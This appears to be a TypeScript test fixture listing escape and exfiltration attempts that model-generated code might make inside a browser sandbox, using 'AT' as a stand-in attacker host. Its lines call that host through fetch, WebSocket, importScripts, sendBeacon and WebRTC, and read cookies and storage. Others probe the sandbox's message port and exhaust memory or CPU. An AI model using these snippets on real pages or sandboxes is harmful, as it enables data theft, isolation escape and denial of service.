/** What code from a model may try in the sandbox. `AT` stands for the attacker's host and port. */

export interface Attack {
  name: string;
  code: string;
  /** What the call has to say, as JSON. Without it any sentence will do. */
  says?: RegExp;
  /** Milliseconds that the code has. */
  timeout?: number;
}

/** They reach the attacker where nothing protects: `unprotected` runs them so, as a control. */
export const calls: readonly Attack[] = [
  { name: 'fetch', code: `await fetch('http://AT/fetch', { mode: 'no-cors' })` },
  {
    name: 'fetch of a prototype',
    code: `let at = self, f; while (at && !f) { f = Object.getOwnPropertyDescriptor(at, 'fetch')?.value; at = Object.getPrototypeOf(at); }
      await f.call(self, 'http://AT/fetch-of-a-prototype', { mode: 'no-cors' })`,
  },
  {
    name: 'fetch kept alive',
    code: `await fetch('http://AT/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
  },
  {
    name: 'XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'http://AT/xhr', false); x.send(); x.status`,
  },
  {
    name: 'WebSocket',
    code: `await new Promise((resolve) => { const s = new WebSocket('ws://AT/ws'); s.onerror = s.onopen = s.onclose = resolve; })`,
  },
  {
    name: 'EventSource',
    code: `await new Promise((resolve) => { const s = new EventSource('http://AT/es'); s.onerror = s.onopen = resolve; })`,
  },
  { name: 'importScripts', code: `importScripts('http://AT/import-scripts.js')` },
  { name: 'dynamic import', code: `await import('http://AT/import.js')` },
  {
    name: 'a nested worker that fetches',
    code: `const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://AT/nested', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(1))"])));
      await new Promise((resolve) => { w.onmessage = resolve; w.onerror = resolve; })`,
  },
  {
    name: 'dynamic import inside of a function made from text',
    code: `await new (async () => {}).constructor("return import('http://AT/made.js')")()`,
  },
];

export const attacks: readonly Attack[] = [
  ...calls,
  { name: 'cookies', code: `document.cookie`, says: /document/ },
  { name: 'cookieStore', code: `await cookieStore.getAll()`, says: /cookieStore/ },
  { name: 'localStorage', code: `localStorage.getItem('secret')`, says: /localStorage/ },
  {
    name: 'indexedDB',
    code: `await new Promise((resolve, reject) => { const r = indexedDB.open('kept'); r.onsuccess = () => resolve(r.result.name); r.onerror = reject; })`,
    says: /indexedDB/,
  },
  { name: 'caches', code: `(await caches.keys()).join()`, says: /caches/ },
  { name: 'OPFS', code: `await navigator.storage.getDirectory()`, says: /navigator/ },
  { name: 'the page around', code: `parent.document.body.innerHTML`, says: /parent/ },
  { name: 'the window above', code: `top.location = 'http://AT/top'`, says: /top/ },
  { name: 'its own address', code: `location = 'http://AT/self'; location.href = 'http://AT/self'; location.assign('http://AT/self')` },
  { name: 'a window', code: `open('http://AT/open'); window.open('http://AT/open')` },
  { name: 'an image', code: `new Image().src = 'http://AT/image'`, says: /Image/ },
  { name: 'a font', code: `await new FontFace('x', 'url(http://AT/font)').load()`, says: /FontFace/ },
  { name: 'sendBeacon', code: `navigator.sendBeacon('http://AT/beacon', 'x')`, says: /navigator/ },
  { name: 'SharedWorker', code: `new SharedWorker('http://AT/shared.js')`, says: /SharedWorker/ },
  {
    name: 'a service worker',
    code: `await navigator.serviceWorker.register('/sw.js')`,
    says: /navigator/,
  },
  {
    name: 'BroadcastChannel',
    code: `new BroadcastChannel('page').postMessage('forged')`,
    says: /BroadcastChannel/,
  },
  {
    name: 'WebRTC',
    code: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:AT' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
    says: /RTCPeerConnection/,
  },
  { name: 'WebTransport', code: `await new WebTransport('https://AT/transport').ready`, says: /WebTransport/ },
  { name: 'a script of a data address', code: `(await import("data:text/javascript,export default 'rea' + 'ched'")).default` },
  {
    name: 'a script of a Blob',
    code: `await import(URL.createObjectURL(new (await (async () => Blob)())(["export default 'rea' + 'ched'"], { type: 'text/javascript' })))`,
  },
  { name: 'the end of the worker', code: `self.close()`, says: /close/ },
  { name: 'an endless loop', code: `while (true) {}`, says: /did not end within/, timeout: 700 },
  { name: 'an endless loop while it looks at the result', code: `({ toJSON() { for (;;); } })`, says: /did not end within/, timeout: 700 },
  {
    name: 'a storm of promises',
    code: `const storm = () => Promise.resolve().then(storm); storm(); await new Promise(() => {})`,
    says: /did not end within/,
    timeout: 700,
  },
  {
    name: 'errors without end',
    code: `const loop = () => { setTimeout(loop); Promise.reject(new Error('again')); }; setInterval(() => { throw new Error('more'); }); loop(); await new Promise(() => {})`,
    says: /did not end within/,
    timeout: 700,
  },
  { name: '4 GB at once', code: `new Uint8Array(4 * 2 ** 30).fill(1).length` },
  { name: 'memory without end', code: `const all = []; for (;;) all.push(new Float64Array(1e6).fill(all.length))`, timeout: 1500 },
  {
    name: 'messages of a prototype without end',
    code: `const { port1 } = new MessageChannel(); for (;;) MessagePort.prototype.postMessage.call(port1, 'flood')`,
    says: /MessageChannel/,
  },
  {
    name: 'lines of the console without end',
    code: `for (let at = 0; at < 1e6; at++) console.log('line ' + at); 'written'`,
    says: /written.*line 0.*line 199.*more lines/s,
  },
  { name: 'a result of 100 MB', code: `'x'.repeat(1e8)`, says: /^.{1000,30000}$/s },
  { name: 'a result of a million rows', code: `Array.from({ length: 1e6 }, (_, id) => ({ id }))`, says: /^.{1000,30000}$/s },
  { name: 'a result in a circle', code: `const a = { name: 'ring' }; a.self = a; a`, says: /ring.*circular/s },
  {
    name: 'a result as deep as the stack',
    code: `let a = {}; for (let at = 0; at < 1e5; at++) a = { a }; a`,
    says: /RangeError|too much recursion|call stack/,
  },
  {
    name: 'a result that cannot be sent',
    code: `({ f() {}, s: Symbol('s'), big: 10n, not: NaN, map: new Map([[1, 2]]) })`,
    says: /10n.*NaN/s,
  },
  {
    name: 'a result whose getters throw',
    code: `({ get a() { throw new Error('from a getter') } })`,
    says: /from a getter/,
  },
  { name: 'a result that is a proxy of traps', code: `new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 } })`, says: /failed/ },
  { name: 'an error that lies', code: `throw { get name() { throw 1 }, get message() { throw 2 } }`, says: /cannot be shown/ },
  {
    name: 'an error with a text that is no text',
    code: `throw Object.assign(new Error(), { message: { toString() { throw 3 } } })`,
    says: /cannot be shown/,
  },
  {
    name: 'prototypes that are changed',
    code: `const all = [Array, Object, String, Function, Promise, Map, Error]; const { ownKeys, defineProperty } = Reflect;
      const value = () => { throw new Error('changed'); };
      for (let at = 0; at < all.length; at++) {
        const keys = ownKeys(all[at].prototype);
        for (let k = 0; k < keys.length; k++) if (keys[k] !== 'constructor' && keys[k] !== 'length') defineProperty(all[at].prototype, keys[k], { value });
      }
      JSON.stringify = () => '"forged"'; Reflect.ownKeys = null; 6 * 7`,
    says: /42/,
  },
  {
    name: 'a prototype in the result',
    code: `JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')`,
  },
  {
    name: 'setters of all prototypes that look for the port',
    code: `const seen = []; for (const key of ['0', '1', '2', 'port', 'ports', 'data', 'id'])
      Object.defineProperty(Object.prototype, key, { configurable: true, set(v) { seen.push(v) }, get() { return undefined } });
      console.log('tried'); seen.length`,
    says: /"result":0/,
  },
  {
    name: 'the stack that looks for the port',
    code: `Error.prepareStackTrace = (_, frames) => frames.map((frame) => String(frame.getFunction?.()) + String(frame.getThis?.()));
      const stack = new Error().stack; (function f() { try { return String(f.caller) } catch (e) { return String(e) } })() + stack`,
    says: /^(?!.*(?:postMessage|MessagePort)).*$/s,
  },
  {
    name: 'an event that looks for the port',
    code: `const seen = []; addEventListener('message', (event) => seen.push(event.ports)); onmessage = (event) => seen.push(event.ports);
      dispatchEvent(new Event('message')); seen.flat().filter(Boolean).length`,
    says: /"result":0/,
  },
  {
    name: 'a forged result',
    code: `self.postMessage(['for' + 'ged', 'result', '1']); 1`,
    says: /postMessage/,
  },
  {
    name: 'the function of functions',
    code: `Function('return typeof document + typeof fetch + typeof parent')()`,
    says: /undefinedundefinedundefined/,
  },
  { name: 'memory that is shared, for a clock', code: `new SharedArrayBuffer(8)`, says: /SharedArrayBuffer/ },
  { name: 'WebAssembly, for memory', code: `new WebAssembly.Memory({ initial: 65536 })`, says: /WebAssembly/ },
  { name: 'code that is no code', code: `}{ alert(1`, says: /SyntaxError|failed/ },
];
